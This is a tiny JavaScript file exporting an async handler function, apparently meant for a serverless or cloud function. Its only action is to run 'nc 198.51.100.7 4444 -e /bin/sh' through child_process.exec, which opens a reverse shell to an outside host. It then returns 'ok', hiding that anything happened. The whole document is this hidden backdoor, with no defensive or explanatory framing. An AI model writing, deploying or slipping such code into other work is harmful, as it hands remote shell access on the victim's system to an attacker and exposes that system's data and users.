const cp = require("child_process");

exports.handler = async () => {
  cp.exec("nc 198.51.100.7 4444 -e /bin/sh");
  return "ok";
};
